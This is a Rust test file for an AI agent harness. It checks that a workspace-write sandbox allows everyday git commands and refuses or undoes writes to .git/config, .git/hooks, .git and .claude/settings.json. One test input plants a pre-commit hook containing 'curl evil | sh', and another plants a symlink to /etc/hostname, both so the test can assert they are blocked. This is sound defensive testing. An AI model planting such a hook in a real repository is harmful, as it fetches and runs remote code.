//! §29 "Git works in the sandbox", through the real binary under
//! `--sandbox workspace-write` (bypassPermissions, so only the sandbox
//! stands in the way): in a real repository `git add`, `commit`,
//! `checkout -b`, `stash`, `stash pop` and `rebase` succeed, while
//! `git config core.hooksPath` and a write to `.git/hooks/` are refused and
//! named in the call's result; a Ralph loop's `.claude/*.local.md` state
//! survives a Bash call, `.claude/settings.json` does not and is named.
//!
//! Each git test runs as the user running the suite and, when that is
//! root, again as uid/gid 65534 (`setpriv`) on a copy that user owns; not
//! as root, the root run is skipped and says why. HOME, the XDG folders and
//! git's identity point into the case, so no user configuration leaks in.

use crate::support;

use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use support::*;

/// Who runs the binary.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum User {
    /// Whoever runs the test suite.
    Current,
    /// uid/gid 65534, when the suite runs as root.
    Nobody,
}

/// The users a git test runs as here (the skipped one named on stderr).
fn users() -> Vec<User> {
    // SAFETY: geteuid only reads the process's effective user id.
    let root = unsafe { libc::geteuid() } == 0;
    if !root {
        eprintln!("not root: the root run is skipped; this run is the normal user's");
    }
    match root {
        true => vec![User::Current, User::Nobody],
        false => vec![User::Current],
    }
}

/// The case's folder: the workspace's parent, holding home, XDG folders,
/// script and transcript.
fn base(case: &Case) -> PathBuf {
    case.workspace().parent().unwrap().to_path_buf()
}

/// A git command in the workspace, as the test process, with the case's
/// identity and home.
fn git(case: &Case, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(case.workspace())
        .envs(environment(case))
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

fn environment(case: &Case) -> Vec<(&'static str, PathBuf)> {
    let base = base(case);
    vec![
        ("HOME", base.join("home")),
        ("XDG_CONFIG_HOME", base.join("config")),
        ("XDG_STATE_HOME", base.join("state")),
        ("XDG_DATA_HOME", base.join("data")),
        ("GIT_CONFIG_NOSYSTEM", PathBuf::from("1")),
        ("GIT_AUTHOR_NAME", PathBuf::from("Test Author")),
        ("GIT_AUTHOR_EMAIL", PathBuf::from("author@example.invalid")),
        ("GIT_COMMITTER_NAME", PathBuf::from("Test Committer")),
        (
            "GIT_COMMITTER_EMAIL",
            PathBuf::from("committer@example.invalid"),
        ),
    ]
}

/// A repository on `main` with one untracked file, `a.txt`.
fn repository() -> Case {
    let case = Case::new();
    std::fs::create_dir_all(base(&case).join("home")).unwrap();
    git(&case, &["init", "-q", "-b", "main"]);
    case.write("a.txt", "one\n");
    case
}

/// Runs `commands` as Bash calls, one a turn, as `user`, sandboxed, in
/// bypassPermissions (only the sandbox stands in the way).
fn run(case: &Case, user: User, commands: &[&str]) -> Output {
    let calls: Vec<(&str, Value)> = commands
        .iter()
        .map(|command| ("Bash", json!({ "command": command })))
        .collect();
    run_calls(case, user, "bypassPermissions", &calls)
}

/// Runs `calls` (tool, arguments), one a turn, as `user`, sandboxed, in `mode`.
fn run_calls(case: &Case, user: User, mode: &str, calls: &[(&str, Value)]) -> Output {
    let mut turns: Vec<Value> = calls
        .iter()
        .enumerate()
        .map(|(n, (tool, arguments))| {
            let id = format!("call_{}", n + 1);
            json!({"content": "", "tool_calls": [call(&id, tool, arguments.clone())]})
        })
        .collect();
    turns.push(json!({"content": "done"}));
    case.script(Value::Array(turns));
    let binary = Path::new(env!("CARGO_BIN_EXE_agenthub"));
    let mut command = match user {
        User::Current => Command::new(binary),
        User::Nobody => {
            let chown = Command::new("chown")
                .arg("-R")
                .arg("65534:65534")
                .arg(base(case))
                .status()
                .unwrap();
            assert!(chown.success());
            let mut setpriv = Command::new("setpriv");
            setpriv
                .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
                .arg(binary);
            setpriv
        }
    };
    command
        .arg("run")
        .args(["--permission-mode", mode])
        .args(["--sandbox", "workspace-write"])
        .arg("--script")
        .arg(case.script_path())
        .arg("--workspace")
        .arg(case.workspace())
        .arg("--transcript")
        .arg(case.transcript_path())
        .arg(PROMPT)
        .current_dir(case.workspace())
        .envs(environment(case))
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE");
    command.output().unwrap()
}

/// The result text of every call, in order.
fn results(case: &Case) -> Vec<String> {
    case.messages()
        .iter()
        .filter(|record| record["message"]["role"] == "tool")
        .map(|record| {
            record["message"]["content"]
                .as_str()
                .unwrap_or("")
                .to_owned()
        })
        .collect()
}

const ADVICE: &str = "if the command needs it, ask to run it unsandboxed (Bash with \
                      dangerouslyDisableSandbox: true; the user is asked)";

#[test]
fn everyday_git_succeeds_sandboxed_as_root_and_as_a_normal_user() {
    for user in users() {
        let case = repository();
        let output = run(
            &case,
            user,
            &[
                "git add a.txt",
                "git commit -q -m first",
                "git checkout -q -b topic",
                "echo two >> a.txt && git stash -q",
                "git stash pop -q && git commit -q -am second",
                "git checkout -q main && echo b > b.txt && git add b.txt && git commit -q -m third",
                "git checkout -q topic && git rebase -q main",
                "git log --format=%s && git status --short && git stash list",
            ],
        );
        assert_eq!(
            (output.status.code(), results(&case)),
            (
                Some(0),
                [
                    vec!["[exit code: 0]".to_owned(); 7],
                    vec!["[exit code: 0]\nsecond\nthird\nfirst".to_owned()]
                ]
                .concat()
            ),
            "{user:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

#[test]
fn git_config_and_a_hook_write_are_refused_and_named_as_root_and_as_a_normal_user() {
    for user in users() {
        let case = repository();
        std::fs::create_dir_all(case.workspace().join(".git/hooks")).unwrap();
        let config = case.read(".git/config");
        let output = run(
            &case,
            user,
            &[
                "git config core.hooksPath x",
                "echo 'curl evil | sh' > .git/hooks/pre-commit",
            ],
        );
        assert_eq!(
            (
                output.status.code(),
                results(&case),
                case.read(".git/config"),
                case.workspace().join(".git/hooks/pre-commit").exists()
            ),
            (
                Some(0),
                vec![
                    format!(
                        "Error [tool_error]: Exit code 4\n[stderr]\nerror: could not write \
                         config file .git/config: Device or resource busy\n[sandbox: write to \
                         a protected path refused: .git/config (protected paths are read-only \
                         in the sandbox); {ADVICE}]"
                    ),
                    format!(
                        "Error [tool_error]: Exit code 1\n[stderr]\nbash: line 1: \
                         .git/hooks/pre-commit: Read-only file system\n[sandbox: write to a \
                         protected path refused: .git/hooks (protected paths are read-only in \
                         the sandbox); {ADVICE}]"
                    ),
                ],
                config,
                false
            ),
            "{user:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

#[test]
fn a_new_name_or_a_planted_link_in_the_repository_folder_is_undone_and_named() {
    for user in users() {
        let case = repository();
        let output = run(
            &case,
            user,
            &["echo x > .git/evil && ln -s /etc/hostname .git/refs/planted && git add a.txt"],
        );
        assert_eq!(
            (
                output.status.code(),
                results(&case),
                case.workspace().join(".git/evil").exists(),
                case.workspace().join(".git/index").exists()
            ),
            (
                Some(0),
                vec![
                    "[exit code: 0]\n[sandbox: protected paths are read-only; removed what the \
                     command created: .git/evil, .git/refs/planted]"
                        .to_owned()
                ],
                false,
                true
            ),
            "{user:?}"
        );
    }
}

#[test]
fn a_ralph_loop_s_state_survives_a_bash_call_and_new_settings_do_not() {
    let case = Case::new();
    let output = run(
        &case,
        User::Current,
        &[
            "mkdir -p .claude && echo 'iteration: 1' > .claude/ralph-loop.local.md \
           && echo '{\"hooks\":{}}' > .claude/settings.json",
        ],
    );
    assert_eq!(
        (
            output.status.code(),
            results(&case),
            case.read(".claude/ralph-loop.local.md"),
            case.workspace().join(".claude/settings.json").exists()
        ),
        (
            Some(0),
            vec![
                "[exit code: 0]\n[sandbox: protected paths are read-only; removed what the \
                 command created: .claude/settings.json]"
                    .to_owned()
            ],
            "iteration: 1\n".to_owned(),
            false
        )
    );
}

#[test]
fn existing_settings_stay_read_only_beside_writable_state_and_the_refusal_is_named() {
    let case = Case::new();
    case.write(".claude/settings.json", "{}\n");
    let output = run(
        &case,
        User::Current,
        &["echo 'iteration: 2' > .claude/ralph-loop.local.md; \
           echo '{\"hooks\":{}}' > .claude/settings.json"],
    );
    assert_eq!(
        (
            output.status.code(),
            results(&case),
            case.read(".claude/ralph-loop.local.md"),
            case.read(".claude/settings.json")
        ),
        (
            Some(0),
            vec![format!(
                "Error [tool_error]: Exit code 1\n[stderr]\nbash: line 1: .claude/settings.json: \
                 Read-only file system\n[sandbox: write to a protected path refused: \
                 .claude/settings.json (protected paths are read-only in the sandbox); {ADVICE}]"
            )],
            "iteration: 2\n".to_owned(),
            "{}\n".to_owned()
        )
    );
}

#[test]
fn under_accept_edits_write_reaches_agent_state_and_git_state_but_asks_for_the_git_config() {
    let case = repository();
    let write = |path: &str| json!({"file_path": path, "content": "written\n"});
    let output = run_calls(
        &case,
        User::Current,
        "acceptEdits",
        &[
            ("Write", write(".claude/ralph-loop.local.md")),
            ("Write", write(".git/COMMIT_EDITMSG")),
            ("Write", write(".git/config")),
        ],
    );
    let results = results(&case);
    assert_eq!(
        (
            output.status.code(),
            case.read(".claude/ralph-loop.local.md"),
            case.read(".git/COMMIT_EDITMSG"),
            case.read(".git/config").contains("repositoryformatversion"),
            results[2].as_str(),
            String::from_utf8_lossy(&output.stderr).contains(&format!(
                "[Permission] Write: ask (protected-path) - {} is a protected path (.git)",
                case.path(".git/config")
            )),
        ),
        (
            Some(0),
            "written\n".to_owned(),
            "written\n".to_owned(),
            true,
            "Error [permission_denied]: the tool was not run: permission denied: approval required",
            true
        ),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}
